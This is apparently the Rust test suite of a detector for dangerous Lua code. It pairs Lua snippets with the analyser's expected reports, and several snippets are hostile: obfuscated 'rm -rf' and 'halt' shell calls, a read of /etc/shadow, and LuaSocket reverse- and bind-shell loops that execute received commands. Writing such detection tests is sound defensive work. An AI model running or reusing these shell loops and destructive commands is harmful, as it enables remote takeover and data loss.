use super::recorder::{check, silent};
use crate::lang::Lang;

const LANG: Lang = Lang::Lua;

#[test]
fn what_reaches_outside_is_found() {
    let control = "Execute shell  [interactive] [remotely controlled] <network>";
    check(
        LANG,
        &[
            (r#"os.execute("rm -rf /x")"#, "shell: rm -rf /x"),
            (r#"os.execute"halt""#, "shell: halt"),
            ("os.execute[[halt]]", "shell: halt"),
            (r#"os.execute("ha".."lt")"#, "shell: halt"),
            (r#"_G["os"]["execute"]("halt")"#, "shell: halt"),
            (r#"os["exec".."ute"]("halt")"#, "shell: halt"),
            (r#"load("os.execute('halt')")()"#, "shell: halt"),
            (r"os.execute(string.char(104,97,108,116))", "shell: halt <decoded>"),
            (r#"os.execute(("tlah"):reverse())"#, "shell: halt <decoded>"),
            (
                r#"local t={104,97,108,116} local s="" for i=1,#t do s=s..string.char(t[i]) end os.execute(s)"#,
                "shell: halt <decoded>",
            ),
            (r#"os.execute(table.concat({"rm","-rf","/x"}," "))"#, "shell: rm -rf /x"),
            (r#"print(io.popen("id"):read("*a"))"#, "shell: id"),
            (r#"local function f(c) os.execute(c) end f("halt")"#, "shell: halt"),
            (r#"local f=io.open("/etc/x","wb"); f:write("p"); io.close(f);"#, "Write /etc/x = p [emptying]"),
            (r#"local f=io.open("/etc/shadow","rb"); io.write(f:read("*a"))"#, "Read /etc/shadow"),
            (r#"os.remove("/etc/x")"#, "Delete /etc/x"),
            (r#"os.remove(os.getenv("HOME").."/x")"#, "Delete /home/ada/x"),
            (r#"dofile("/tmp/x.lua")"#, "script lua /tmp/x.lua"),
            (
                "local s=require(\"socket\");local t=assert(s.tcp());t:connect(\"h\",1);while true do local r,x=t:receive();local f=assert(io.popen(r,\"r\"));local b=assert(f:read(\"*a\"));t:send(b);end;f:close();",
                control,
            ),
            (
                "local k=require(\"socket\");local s=assert(k.bind(\"*\",1));local c=s:accept();while true do local r,x=c:receive();local f=assert(io.popen(r,\"r\"));end",
                control,
            ),
            (
                "local k=require(\"socket\");local s=assert(k.bind(\"*\",1));local c=s:accept();local d,x=c:receive(\"*a\");local f=io.open(\"/etc/x\",\"wb\");f:write(d);",
                "Write /etc/x = received [emptying] <network>",
            ),
        ],
    );
}

#[test]
fn harmless_code_says_nothing() {
    silent(
        LANG,
        &[
            r#"print("Hello World")"#,
            "print(_VERSION)",
            "-- os.execute('x')\nprint(1)",
            "--[[ os.execute('x') ]] print(1)",
            "for i=1,10 do print(i) end",
            r#"print("os.execute('rm')")"#,
            "local t = {a=1, b=2} for k,v in pairs(t) do print(k,v) end",
            "print(os.time())",
            "if 1 > 2 then print(1) else print(2) end",
            r#"print(string.rep("x", 3))"#,
            "local function add(a,b) return a+b end print(add(1,2))",
        ],
    );
}

#[test]
fn loops_and_libraries_of_c() {
    check(
        LANG,
        &[
            (r#"for _, d in ipairs({"/x", "/y"}) do os.execute("rm -rf " .. d) end"#, "shell: rm -rf /y"),
            (r#"local ffi = require("ffi") ffi.C.system("rm -rf /x")"#, "shell: rm -rf /x"),
            (r#"io.output("/x")"#, "Write /x [emptying]"),
        ],
    );
}

#[test]
fn only_the_last_call_hands_out_all_that_it_returns() {
    let code = "local x, y = table.unpack({'halt'}), table.unpack({'reboot'}); os.execute(x)";
    check(LANG, &[(code, "shell: halt")]);
}

#[test]
fn a_call_that_returns_nothing_ends_a_table() {
    check(
        LANG,
        &[("os.execute(table.concat({'halt', string.match(x, 'y')}, ' -p '))", "shell: table.concat")],
    );
}
